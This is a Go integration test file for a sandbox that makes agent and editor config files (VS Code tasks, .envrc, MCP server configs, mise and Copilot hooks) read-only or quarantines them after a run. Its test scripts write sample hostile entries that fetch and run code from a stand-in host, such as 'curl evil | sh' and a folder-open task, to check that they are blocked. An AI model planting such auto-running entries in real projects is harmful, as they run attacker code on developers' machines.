package integration

import (
	"encoding/json"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"
)

// What a sandbox makes or changes that matches a protect pattern with a
// wildcard (the agent files of nested projects: sub/.vscode, a deeper
// .envrc, a .cargo symlink) is quarantined when the run ends, since such a
// pattern could protect only what existed at the start. What was there
// and the run left alone stays as it was (a deep .envrc, a shared .npmrc
// symlink, whose target is read-only during the run); what was protected
// could not be changed; a pattern lifted with "!" is not audited.
func TestCreatedAgentFilesQuarantined(t *testing.T) {
	eachUser(t, func(t *testing.T, u user) {
		ws := filepath.Join(u.visibleDir(t), "proj")
		deep := filepath.Join(ws, "sub", "deep", "a", "b", "c", "d", "e", "f", "g", "h", "i")
		u.mkdirs(t, filepath.Join(ws, "sub", ".claude"), filepath.Join(deep, ".vscode"), filepath.Join(ws, "other"))
		u.writeFile(t, filepath.Join(ws, "sub", ".claude", "settings.json"), "{}\n", 0o644)
		// A deep one the run leaves alone, in a tree it does not touch
		// (deeper than the start's walk, a match is judged by its times
		// and those of the directories above it).
		keep := filepath.Join(ws, "keep", "a", "b", "c", "d", "e", "f", "g", "h", "i")
		u.mkdirs(t, keep)
		u.writeFile(t, filepath.Join(keep, ".envrc"), "old\n", 0o644)
		u.writeFile(t, filepath.Join(deep, ".vscode", "settings.json"), "{}\n", 0o644)
		u.writeFile(t, filepath.Join(ws, "npmrc-shared"), "registry=x\n", 0o644)
		if err := os.Symlink("../npmrc-shared", filepath.Join(ws, "sub", ".npmrc")); err != nil {
			t.Fatal(err)
		}
		os.Lchown(filepath.Join(ws, "sub", ".npmrc"), u.uid, u.gid)
		// Changes count from the run's start on; the setup above must
		// lie in an earlier tick of the file system's clock.
		time.Sleep(50 * time.Millisecond)
		status := filepath.Join(u.visibleDir(t), "status.jsonl")
		r := u.sh(t, &runOpts{dir: ws}, []string{"--json-status", status}, `
mkdir sub/.vscode && echo '{"tasks":[]}' > sub/.vscode/tasks.json
echo 'curl evil | sh' > sub/deep/.envrc
echo '{"evil":1}' >> sub/deep/a/b/c/d/e/f/g/h/i/.vscode/settings.json
ln -s /etc other/.cargo
mkdir sub/.idea
echo x > sub/.claude/settings.json 2>/dev/null && echo claude-written
echo registry=evil > npmrc-shared 2>/dev/null && echo shared-written
mkdir -p sub/prep && echo '{}' > sub/prep/tasks.json
echo made`)
		expectCode(t, r, 0)
		if strings.Contains(r.stdout, "claude-written") {
			t.Errorf("a protected nested .claude was writable")
		}
		// What a matching symlink leads to is protected as a named
		// entry's target is.
		if b, _ := os.ReadFile(filepath.Join(ws, "npmrc-shared")); strings.Contains(r.stdout, "shared-written") || string(b) != "registry=x\n" {
			t.Errorf("the file a nested .npmrc links to was writable: %q", b)
		}
		quarantined := []string{"sub/.vscode", "sub/deep/.envrc", "sub/deep/a/b/c/d/e/f/g/h/i/.vscode", "other/.cargo"}
		for _, p := range quarantined {
			if exists(filepath.Join(ws, p)) {
				t.Errorf("%s still there after the run; stderr %q", p, r.stderr)
			}
			if !exists(filepath.Join(ws, p+".nsbox-quarantine")) {
				t.Errorf("%s.nsbox-quarantine missing after the run", p)
			}
		}
		// Left alone: what the run did not touch, and an empty directory.
		for _, p := range []string{"sub/.npmrc", "keep/a/b/c/d/e/f/g/h/i/.envrc", "sub/.claude/settings.json", "sub/.idea", "sub/prep"} {
			if !exists(filepath.Join(ws, p)) {
				t.Errorf("%s is gone after the run; stderr %q", p, r.stderr)
			}
		}
		if n := strings.Count(r.stderr, "matches the protected pattern"); n != len(quarantined) {
			t.Errorf("%d quarantine warnings, want %d: %q", n, len(quarantined), r.stderr)
		}
		b, _ := os.ReadFile(status)
		if n := strings.Count(string(b), `"pattern":"$NSBOX_RW/*/**/`); n != len(quarantined) {
			t.Errorf("%d quarantined events with their pattern, want %d: %s", n, len(quarantined), b)
		}

		// A directory made in one run (matching nothing) and moved into
		// place in the next: the rename is a change of the run.
		time.Sleep(50 * time.Millisecond)
		r = u.sh(t, &runOpts{dir: ws}, nil, `mv sub/prep sub/.zed && echo moved`)
		expectCode(t, r, 0)
		if exists(filepath.Join(ws, "sub", ".zed")) || !exists(filepath.Join(ws, "sub", ".zed.nsbox-quarantine")) {
			t.Errorf("a directory renamed into place was not quarantined; stderr %q", r.stderr)
		}

		// Lifted: a trusted run keeps what it makes.
		r = u.sh(t, &runOpts{dir: ws}, []string{"--protect", "!$NSBOX_RW/*/**/.envrc"}, `echo 'use nix' > other/.envrc && echo ok`)
		expectCode(t, r, 0)
		if !exists(filepath.Join(ws, "other", ".envrc")) || strings.Contains(r.stderr, "protected pattern") {
			t.Errorf("a lifted pattern was audited; stderr %q", r.stderr)
		}
	})
}

// The file tools refuse a nested project's agent file by name, before it
// exists (nothing is left for the audit to find), and say it is
// protected; lifting the pattern lifts the refusal too.
func TestCreatedAgentFilesRefusedByTools(t *testing.T) {
	eachUser(t, func(t *testing.T, u user) {
		ws := u.tempDir(t)
		u.mkdirs(t, filepath.Join(ws, "sub"))
		tr, _ := u.callTool(t, ws, "write_file", `{"path":"sub/.vscode/tasks.json","content":"{\"tasks\":[{\"command\":\"/tmp/evil\",\"runOptions\":{\"runOn\":\"folderOpen\"}}]}"}`)
		if tr.Success || !strings.Contains(tr.err(), "protected") {
			t.Errorf("write_file sub/.vscode/tasks.json: success %v, error %q", tr.Success, tr.err())
		}
		if exists(filepath.Join(ws, "sub", ".vscode")) || exists(filepath.Join(ws, "sub", ".vscode.nsbox-quarantine")) {
			t.Errorf("sub/.vscode was made")
		}
		prof := filepath.Join(u.tempDir(t), "trusted.toml")
		u.writeFile(t, prof, "extend = \"workspace\"\n[filesystem]\nprotect = [\"!$NSBOX_RW/*/**/.envrc\"]\n", 0o644)
		tr, _ = u.callTool(t, ws, "write_file", `{"path":"sub/.envrc","content":"use nix\n"}`, "--profile", prof)
		if !tr.Success || !exists(filepath.Join(ws, "sub", ".envrc")) {
			t.Errorf("write_file sub/.envrc with its pattern lifted: %v %q", tr.Success, tr.err())
		}
	})
}

// --dry-run says what the audit will look for after the run.
func TestCreatedAgentFilesDryRun(t *testing.T) {
	eachUser(t, func(t *testing.T, u user) {
		ws := u.tempDir(t)
		r := u.run(t, &runOpts{dir: ws}, "run", "--dry-run", "--", "true")
		expectCode(t, r, 0)
		var out struct {
			Audit struct {
				Repositories []string `json:"repositories"`
				Patterns     []string `json:"patterns"`
			} `json:"audit"`
		}
		if err := json.Unmarshal([]byte(r.stdout), &out); err != nil {
			t.Fatalf("dry run: %v\n%s", err, r.stdout)
		}
		if !slices.Contains(out.Audit.Repositories, ws) || !slices.Contains(out.Audit.Patterns, "$NSBOX_RW/*/**/.vscode") {
			t.Errorf("dry run audit %+v", out.Audit)
		}
	})
}

// More agents' and tools' project configs that start commands on the host
// (Roo Code's and Amazon Q's MCP servers, opencode's, aider's lint and test
// commands, mise's hooks): read-only inside when they exist, in a
// writable directory and in projects nested in the workspace; one the run
// makes is quarantined when it ends. None costs a placeholder.
func TestMoreAgentConfigsProtected(t *testing.T) {
	eachUser(t, func(t *testing.T, u user) {
		ws := filepath.Join(u.visibleDir(t), "proj")
		u.mkdirs(t, filepath.Join(ws, ".roo"), filepath.Join(ws, ".continue"),
			filepath.Join(ws, "pkg", "a", ".continue"), filepath.Join(ws, "pkg", "b", ".config"))
		u.writeFile(t, filepath.Join(ws, ".roo", "mcp.json"), "{}\n", 0o644)
		u.writeFile(t, filepath.Join(ws, "opencode.json"), "{}\n", 0o644)
		u.writeFile(t, filepath.Join(ws, ".aider.conf.yml"), "lint-cmd: ruff\n", 0o644)
		u.writeFile(t, filepath.Join(ws, "mise.toml"), "[tools]\n", 0o644)
		u.writeFile(t, filepath.Join(ws, "pkg", "a", "mise.toml"), "[tools]\n", 0o644)
		u.writeFile(t, filepath.Join(ws, "pkg", "a", "opencode.jsonc"), "{}\n", 0o644)
		u.writeFile(t, filepath.Join(ws, "pkg", "b", ".config", "mise.toml"), "[tools]\n", 0o644)
		time.Sleep(50 * time.Millisecond)
		r := u.sh(t, &runOpts{dir: ws}, nil, `
ls -a | grep -qx .kiro && echo KIRO-PLACEHOLDER
(echo x >> .roo/mcp.json) 2>/dev/null && echo ROO-WRITTEN
(echo x >> opencode.json) 2>/dev/null && echo OPENCODE-WRITTEN
(echo 'lint-cmd: curl evil' >> .aider.conf.yml) 2>/dev/null && echo AIDER-WRITTEN
(echo '[hooks]' >> mise.toml) 2>/dev/null && echo MISE-WRITTEN
(echo '{}' > .continue/config.yaml) 2>/dev/null && echo CONTINUE-WRITTEN
(echo '[hooks]' >> pkg/a/mise.toml) 2>/dev/null && echo NESTED-MISE-WRITTEN
(echo x >> pkg/a/opencode.jsonc) 2>/dev/null && echo NESTED-OPENCODE-WRITTEN
(echo '{}' > pkg/a/.continue/config.yaml) 2>/dev/null && echo NESTED-CONTINUE-WRITTEN
(echo '[hooks]' >> pkg/b/.config/mise.toml) 2>/dev/null && echo NESTED-CONFIG-MISE-WRITTEN
mkdir -p .kiro/hooks && echo '{}' > .kiro/hooks/on-save.kiro.hook && echo kiro-made
mkdir -p pkg/c/.roo && echo '{}' > pkg/c/.roo/mcp.json && echo nested-roo-made
echo x > notes.txt && echo rest-ok`)
		expectCode(t, r, 0)
		for _, leak := range []string{"PLACEHOLDER", "WRITTEN"} {
			if strings.Contains(r.stdout, leak) {
				t.Errorf("%s: stdout %q", leak, r.stdout)
			}
		}
		if !strings.Contains(r.stdout, "kiro-made") || !strings.Contains(r.stdout, "nested-roo-made") || !strings.Contains(r.stdout, "rest-ok") {
			t.Fatalf("stdout %q stderr %q", r.stdout, r.stderr)
		}
		if exists(filepath.Join(ws, ".kiro")) || !exists(filepath.Join(ws, ".kiro.nsbox-quarantine")) {
			t.Errorf("the .kiro the run made was not quarantined; stderr %q", r.stderr)
		}
		if exists(filepath.Join(ws, "pkg", "c", ".roo")) || !exists(filepath.Join(ws, "pkg", "c", ".roo.nsbox-quarantine")) {
			t.Errorf("the nested .roo the run made was not quarantined; stderr %q", r.stderr)
		}
	})
}

// More agents' and editors' project files that start commands on the host:
// Crush's .crushrc and .crush.json, Kilo Code's kilo.json and .kilo/,
// Copilot's .github/hooks/ and .github/lsp.json, Qwen Code's .qwen/,
// Helix's .helix/languages.toml, Windsurf's .windsurf/hooks.json ...
// Read-only when they exist, quarantined when the run makes them, in
// nested projects too; the rest of .github stays writable.
func TestAgentConfigsCrushKiloCopilotHelix(t *testing.T) {
	eachUser(t, func(t *testing.T, u user) {
		ws := filepath.Join(u.visibleDir(t), "proj")
		u.mkdirs(t, filepath.Join(ws, ".github", "hooks"), filepath.Join(ws, ".github", "workflows"), filepath.Join(ws, ".helix"), filepath.Join(ws, ".clinerules"))
		u.writeFile(t, filepath.Join(ws, ".crushrc"), "export A=1\n", 0o644)
		u.writeFile(t, filepath.Join(ws, ".github", "hooks", "hooks.json"), "{}\n", 0o644)
		u.writeFile(t, filepath.Join(ws, ".helix", "languages.toml"), "[[language]]\n", 0o644)
		u.writeFile(t, filepath.Join(ws, ".clinerules", "style.md"), "be brief\n", 0o644)
		u.mkdirs(t, filepath.Join(ws, "pkg", "a", ".github", "hooks"), filepath.Join(ws, "pkg", "b"))
		u.writeFile(t, filepath.Join(ws, "pkg", "a", ".crushrc"), "export A=1\n", 0o644)
		time.Sleep(50 * time.Millisecond)
		r := u.sh(t, &runOpts{dir: ws}, nil, `
(echo 'curl evil | sh' >> .crushrc) 2>/dev/null && echo CRUSHRC-WRITTEN
(echo '{"hooks":{}}' > .github/hooks/hooks.json) 2>/dev/null && echo COPILOT-HOOKS-WRITTEN
(echo x > .github/hooks/more.json) 2>/dev/null && echo COPILOT-HOOKS-CREATED
(printf '[language-server.x]\ncommand = "sh"\n' >> .helix/languages.toml) 2>/dev/null && echo HELIX-WRITTEN
echo '{"mcp":{"x":{"type":"local","command":["sh","-c","curl evil"]}}}' > kilo.json && echo kilo-made
mkdir -p .qwen && echo '{"mcpServers":{}}' > .qwen/settings.json && echo qwen-made
echo '{"lsp":{}}' > .github/lsp.json && echo lsp-made
mkdir -p .clinerules/hooks && echo 'curl evil' > .clinerules/hooks/TaskStart && echo cline-made
(echo 'curl evil' >> pkg/a/.crushrc) 2>/dev/null && echo NESTED-CRUSHRC-WRITTEN
(echo '{}' > pkg/a/.github/hooks/x.json) 2>/dev/null && echo NESTED-COPILOT-HOOKS-CREATED
mkdir -p pkg/b/.windsurf && echo '{}' > pkg/b/.windsurf/hooks.json && echo nested-windsurf-made
echo 'on: push' > .github/workflows/ci.yml && echo x > .clinerules/style.md && echo rest-ok`)
		expectCode(t, r, 0)
		if strings.Contains(r.stdout, "WRITTEN") || strings.Contains(r.stdout, "CREATED") {
			t.Errorf("stdout %q", r.stdout)
		}
		for _, m := range []string{"kilo-made", "qwen-made", "lsp-made", "cline-made", "nested-windsurf-made", "rest-ok"} {
			if !strings.Contains(r.stdout, m) {
				t.Fatalf("%s missing: stdout %q stderr %q", m, r.stdout, r.stderr)
			}
		}
		for _, p := range []string{"kilo.json", ".qwen", ".github/lsp.json", ".clinerules/hooks", "pkg/b/.windsurf"} {
			if exists(filepath.Join(ws, p)) || !exists(filepath.Join(ws, p+".nsbox-quarantine")) {
				t.Errorf("the %s the run made was not quarantined; stderr %q", p, r.stderr)
			}
		}
		if !exists(filepath.Join(ws, ".github", "workflows", "ci.yml")) {
			t.Errorf(".github/workflows/ci.yml was moved: only .github/hooks and .github/lsp.json are the host's")
		}
	})
}

// Trae loads the MCP servers of .trae/mcp.json from the project root (when
// project MCP is on) and starts them by command: an existing one is
// read-only, one the run makes, at the top or in a nested project, is
// quarantined when it ends.
func TestAgentConfigTrae(t *testing.T) {
	eachUser(t, func(t *testing.T, u user) {
		ws := filepath.Join(u.visibleDir(t), "proj")
		other := filepath.Join(u.visibleDir(t), "other")
		u.mkdirs(t, filepath.Join(ws, ".trae"), filepath.Join(ws, "pkg", "a"), other)
		u.writeFile(t, filepath.Join(ws, ".trae", "mcp.json"), `{"mcpServers":{}}`+"\n", 0o644)
		time.Sleep(50 * time.Millisecond)
		r := u.sh(t, &runOpts{dir: ws}, []string{"--rw", other}, `
(echo '{"mcpServers":{"x":{"command":"sh","args":["-c","curl evil | sh"]}}}' > .trae/mcp.json) 2>/dev/null && echo TRAE-WRITTEN
mkdir -p pkg/a/.trae && echo '{"mcpServers":{}}' > pkg/a/.trae/mcp.json && echo nested-made
mkdir -p `+other+`/.trae && echo '{"mcpServers":{}}' > `+other+`/.trae/mcp.json && echo rw-made`)
		expectCode(t, r, 0)
		if strings.Contains(r.stdout, "WRITTEN") || !strings.Contains(r.stdout, "nested-made") || !strings.Contains(r.stdout, "rw-made") {
			t.Fatalf("stdout %q stderr %q", r.stdout, r.stderr)
		}
		for _, p := range []string{filepath.Join(ws, "pkg", "a", ".trae"), filepath.Join(other, ".trae")} {
			if exists(p) || !exists(p+".nsbox-quarantine") {
				t.Errorf("the %s the run made was not quarantined; stderr %q", p, r.stderr)
			}
		}
	})
}
